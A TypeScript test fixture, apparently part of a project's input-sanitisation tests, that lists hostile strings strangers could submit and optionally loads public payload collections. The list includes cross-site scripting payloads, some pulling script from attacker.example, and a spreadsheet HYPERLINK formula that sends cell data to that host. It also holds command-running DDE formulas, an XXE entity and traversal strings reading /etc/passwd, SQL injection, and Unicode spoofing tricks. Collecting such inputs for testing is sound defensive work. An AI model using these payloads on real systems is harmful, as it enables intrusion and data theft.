/**
 * Texts that strangers could send: scripts in every wrapping, formulas, addresses of other schemes, characters that hide or
 * reorder, names of JavaScript's own things. With HENGPING_HOSTILE, a folder of public collections of such texts, theirs too.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

/** Our own, one for each way in that we know of. Each says `alert`, so that whatever runs shows itself. */
export const OWN_STRINGS: readonly string[] = [
  // Markup
  '<script>alert("own")</script>',
  '<SCRIPT SRC=https://attacker.example/own.js></SCRIPT>',
  '</title><script>alert(1)</script>',
  '</script ><script>alert("json")</script>',
  '<img src="https://attacker.example/pixel.png" onerror="alert(1)">',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<math><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">here</a>',
  '<base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<link rel="stylesheet" href="https://attacker.example/a.css">',
  '<style>@import "https://attacker.example/a.css";body{display:none}</style>',
  '<form action="https://attacker.example/"><button autofocus>ok</button></form>',
  '<details open ontoggle=alert(1)>',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  '<mark onmouseover="alert(1)">marked</mark>',
  '<!--<script>alert(1)</script>-->',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script><![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '&lt;script&gt;alert("twice")&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  // Out of an attribute, a template, an expression
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '` onfocus=alert(1) `',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '{alert(1)}',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '"};alert(1);//',
  // Addresses
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://good.example/',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  'https://user:secret@good.example/',
  'https://good.example@attacker.example/',
  '//attacker.example/x.js',
  'https://good.example/a?b=1&amp;c=%3Cscript%3E#d',
  'https://good.example/"onclick="alert(1)',
  'https://good.example/\\..\\alert',
  'mailto:a@good.example?bcc=all@good.example',
  // Formulas
  '=HYPERLINK("https://attacker.example/?"&A1,"alert")',
  '+1+cmd|"/c calc"!A0',
  '-2+3+cmd|"/c calc"!A0',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '＝1+1',
  ' =1+1',
  '好评\n=1+1',
  '\t=1+1',
  '%0A=1+1',
  // Hidden and reordering characters
  'safe\u202Etxt.exe',
  'zero\u200Bwidth',
  'soft\u00ADhyphen',
  'tag\u{E0041}characters',
  'bell\u0007',
  'null\u0000byte',
  'lone\uD800surrogate',
  '\uFEFFmark',
  'line\u2028separator',
  'z͓̪̋a̞̽l͈̅ǵ̞o̢̎'.repeat(3),
  'x'.repeat(5000),
  // Names that programs use themselves, and values that look like others
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'NaN',
  '-0',
  '1e309',
  '0x10',
  '',
  ' ',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'C:\\con\\aux',
  'a,b;"c"\td',
  '"unclosed',
  "Robert'); DROP TABLE vendors;--",
  '%s%n%x',
  '$&$1$`',
  '\\r\\n\\t\\',
  // Letters of other alphabets in a Latin word
  'Hоnest Bооks',
  'ΑΒС Accounting',
  // Honest texts that must pass
  '云杉财税 & 伙伴（上海）有限公司',
  'Müller, Søn & Cie. <3',
  '😀 五星好评！',
];

/** Folder of the public collections; undefined when there is none. */
export const COLLECTIONS = process.env['HENGPING_HOSTILE'];

/** Every text to be tried, each once: our own, then those of the collections. */
export function hostileStrings(): string[] {
  if (COLLECTIONS === undefined) return [...OWN_STRINGS];
  const naughty = JSON.parse(readFileSync(join(COLLECTIONS, 'blns.json'), 'utf8')) as string[];
  const scripts = readFileSync(join(COLLECTIONS, 'xss-payloads-odd-lines.txt'), 'utf8').split('\n');
  return [...new Set([...OWN_STRINGS, ...naughty, ...scripts])];
}
